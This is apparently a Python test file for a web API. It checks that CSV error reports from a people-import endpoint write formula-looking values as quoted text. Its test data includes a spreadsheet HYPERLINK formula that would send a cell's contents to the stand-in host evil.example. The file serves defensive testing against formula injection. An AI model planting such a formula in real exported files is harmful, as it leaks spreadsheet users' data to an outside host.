"""Every CSV we write shows a formula-looking value as text, on SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from contextlib import AbstractContextManager

from tests.factories import World
from tests.web.api.conftest import Api, error_of

Committed = Callable[[], AbstractContextManager[World]]

ATTACK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def test_R23_an_import_error_report_writes_a_formula_value_as_text(
    api: Api, committed: Committed
) -> None:
    with committed() as world:
        keys = api.keys(world)
    http = api.client(keys.member)
    bad = f'Email,Company\n"{ATTACK.replace(chr(34), chr(34) * 2)}",acme.com\n+1-2,acme.com\n'
    mapping = {"map": ["Email=email", "Company=company_domain"]}

    as_json = http.post(
        "/imports/people", params=mapping, content=bad, headers={"Content-Type": "text/csv"}
    )
    as_file = http.post(
        "/imports/people",
        params=mapping,
        content=bad,
        headers={"Content-Type": "text/csv", "Accept": "text/csv"},
    )

    assert as_json.status_code == 422, as_json.text
    assert as_file.status_code == 422, as_file.text
    for text in (error_of(as_json)["error_report_csv"], as_file.text):
        values = [row["value"] for row in csv.DictReader(io.StringIO(text))]
        assert values == [f"'{ATTACK}", "'+1-2"]
